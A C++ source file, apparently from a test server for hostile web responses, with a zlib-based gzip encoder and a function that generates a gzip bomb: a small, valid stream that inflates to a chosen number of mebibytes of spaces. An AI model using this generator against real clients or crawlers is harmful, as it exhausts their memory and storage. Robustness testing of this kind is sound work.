#include "gzip.h"

#include <stdexcept>
#include <zlib.h>

namespace huabiao::badweb {
namespace {

constexpr std::size_t kMebibyte = 1 << 20;

// A raw deflate stream of `body`, ended at a byte border (full flush) or finished.
std::string deflated(std::string_view body, int flush) {
  z_stream stream{};
  if (deflateInit2(&stream, 6, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK)
    throw std::runtime_error("deflateInit2");
  std::string out(deflateBound(&stream, body.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(body.data()));
  stream.avail_in = static_cast<uInt>(body.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, flush);
  out.resize(out.size() - stream.avail_out);
  deflateEnd(&stream);
  return out;
}

uLong crc_of(std::string_view body) {
  return crc32(0, reinterpret_cast<const Bytef*>(body.data()), static_cast<uInt>(body.size()));
}

std::string header() {
  return {"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10};
}

void append_little_endian(std::string& out, std::uint32_t value) {
  for (int shift = 0; shift < 32; shift += 8) out += static_cast<char>(value >> shift & 0xFF);
}

}  // namespace

std::string gzipped(std::string_view body) {
  std::string out = header() + deflated(body, Z_FINISH);
  append_little_endian(out, static_cast<std::uint32_t>(crc_of(body)));
  append_little_endian(out, static_cast<std::uint32_t>(body.size()));
  return out;
}

std::string gzip_bomb(std::string_view head, std::size_t mebibytes) {
  const std::string blank(kMebibyte, ' ');
  const std::string packed = deflated(blank, Z_FULL_FLUSH);
  const uLong blank_crc = crc_of(blank);
  std::string out = header() + deflated(head, Z_FULL_FLUSH);
  uLong crc = crc_of(head);
  for (std::size_t i = 0; i < mebibytes; ++i) {
    out += packed;
    crc = crc32_combine(crc, blank_crc, static_cast<z_off_t>(kMebibyte));
  }
  out += deflated({}, Z_FINISH);
  append_little_endian(out, static_cast<std::uint32_t>(crc));
  append_little_endian(out, static_cast<std::uint32_t>(head.size() + mebibytes * kMebibyte));
  return out;
}

}  // namespace huabiao::badweb
